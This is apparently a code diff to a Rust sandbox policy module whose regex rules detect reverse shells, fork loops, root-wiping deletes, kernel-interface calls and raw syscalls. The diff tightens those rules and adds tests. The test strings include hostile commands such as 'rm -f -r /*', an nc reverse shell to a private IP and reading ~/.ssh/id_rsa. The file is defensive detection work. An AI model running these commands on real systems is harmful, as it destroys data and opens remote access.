@@ -8,7 +8,7 @@
 //! with the rule's name.
 
 use crate::runtime::Language;
-use regex::Regex;
+use regex::bytes::{Regex, RegexBuilder};
 use std::sync::OnceLock;
 
 /// What happens when code matches a rule.
@@ -77,7 +77,7 @@ const RULES: &[(&str, &str, &[Language], &str)] = &[
         "reverse-shell",
         "opens a shell over the network",
         ALL,
-        r"/dev/(tcp|udp)/|\bnc(at)?\s+(-\w+\s+)*-e\b|\bbash\s+-i\s+>&|\bsocat\b.*\bexec:",
+        r"/dev/(tcp|udp)/|\bnc(at)?\b[^\n;|&]*\s-(e|c)\s|\bbash\s+-i\s+>&|\bsocat\b.*\bexec:",
     ),
     (
         "fork-bomb",
@@ -89,13 +89,13 @@ const RULES: &[(&str, &str, &[Language], &str)] = &[
         "fork-loop",
         "forks in an endless loop",
         PYTHON,
-        r"while\s+True\s*:\s*\n?\s*os\.fork\(\)",
+        r"while\s+(True|1)\s*:(.|\n){0,120}os\.fork\(\)",
     ),
     (
         "wipe-root",
         "deletes the whole filesystem",
         ALL,
-        r"\brm\s+(-[a-zA-Z]*\s+)*-[a-zA-Z]*r[a-zA-Z]*\s+(-[a-zA-Z]+\s+)*(--no-preserve-root\s+)?/(\*|\s|$)",
+        r"\brm\s+((-[a-zA-Z]+|--[a-z-]+)\s+)*?(-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+((-[a-zA-Z]+|--[a-z-]+)\s+)*/\*?(\s|;|&|$)",
     ),
     (
         "namespace-escape",
@@ -107,7 +107,7 @@ const RULES: &[(&str, &str, &[Language], &str)] = &[
         "kernel-interface",
         "reaches kernel interfaces a sandbox never needs (modules, keyrings, bpf, kexec)",
         ALL,
-        r"\b(insmod|modprobe|init_module|finit_module|kexec_load|keyctl|add_key|bpf\s*\(|perf_event_open|userfaultfd)\b",
+        r"\b(insmod|modprobe|finit_module|kexec_load|kexec_file_load|keyctl|perf_event_open|userfaultfd)\b|\bbpf\s*\(",
     ),
     (
         "host-secrets",
@@ -119,7 +119,7 @@ const RULES: &[(&str, &str, &[Language], &str)] = &[
         "raw-syscall",
         "issues raw system calls",
         NATIVE,
-        r"ctypes\.CDLL\(\s*None|libc\.syscall\(|syscall\.(RawSyscall|Syscall6?)\(|libc::syscall\(",
+        r"\.syscall\(|syscall\.(RawSyscall6?|Syscall6?)\(|libc::syscall\(",
     ),
     (
         "process-internals",
@@ -140,16 +140,19 @@ fn rules() -> &'static [Rule] {
     COMPILED.get_or_init(|| {
         RULES
             .iter()
-            .filter_map(|(id, description, languages, pattern)| match Regex::new(pattern) {
-                Ok(pattern) => Some(Rule {
-                    id,
-                    description,
-                    languages,
-                    pattern,
-                }),
-                Err(error) => {
-                    tracing::error!(rule = id, %error, "policy rule does not compile; skipped");
-                    None
+            // ASCII word boundaries keep matching linear and fast on any text.
+            .filter_map(|(id, description, languages, pattern)| {
+                match RegexBuilder::new(pattern).unicode(false).build() {
+                    Ok(pattern) => Some(Rule {
+                        id,
+                        description,
+                        languages,
+                        pattern,
+                    }),
+                    Err(error) => {
+                        tracing::error!(rule = id, %error, "policy rule does not compile; skipped");
+                        None
+                    }
                 }
             })
             .collect()
@@ -162,11 +165,11 @@ pub fn check(language: Language, code: &str) -> Vec<Violation> {
         .iter()
         .filter(|rule| rule.languages.is_empty() || rule.languages.contains(&language))
         .filter_map(|rule| {
-            let found = rule.pattern.find(code)?;
+            let found = rule.pattern.find(code.as_bytes())?;
             Some(Violation {
                 rule: rule.id,
                 description: rule.description,
-                matched: found.as_str().chars().take(120).collect(),
+                matched: String::from_utf8_lossy(found.as_bytes()).chars().take(120).collect(),
             })
         })
         .collect()
@@ -206,6 +209,17 @@ mod tests {
         );
         assert_eq!(ids(Language::Go, "syscall.RawSyscall(1, 0, 0, 0)"), ["raw-syscall"]);
         assert_eq!(ids(Language::Bash, "cat ~/.ssh/id_rsa"), ["host-secrets"]);
+        assert_eq!(ids(Language::Bash, "rm --recursive --force /"), ["wipe-root"]);
+        assert_eq!(ids(Language::Bash, "rm -f -r /*"), ["wipe-root"]);
+        assert_eq!(ids(Language::Bash, "nc 10.0.0.1 4242 -e /bin/sh"), ["reverse-shell"]);
+        assert_eq!(
+            ids(
+                Language::Python,
+                "import os\nwhile True:\n    if os.fork() == 0:\n        pass"
+            ),
+            ["fork-loop"]
+        );
+        assert_eq!(ids(Language::Python, "libc.bpf(1)"), ["kernel-interface"]);
     }
 
     #[test]
@@ -220,6 +234,14 @@ mod tests {
             ),
             (Language::Rust, "fn main() { println!(\"mount point\"); }"),
             (Language::Go, "fmt.Println(\"hello\")"),
+            (Language::Python, "keys.add_key('a')\nfabric.init_module()"),
+            (Language::Python, "import ctypes\nctypes.CDLL(None).malloc_trim(0)"),
+            (
+                Language::Python,
+                "import subprocess\nsubprocess.run(['ls'])\nimport requests",
+            ),
+            (Language::Bash, "rm -rf /tmp/build; rm -r ./out/"),
+            (Language::Python, "print('héllo wörld, naïve café')"),
         ] {
             assert!(ids(language, code).is_empty(), "{language:?}: {code}");
         }
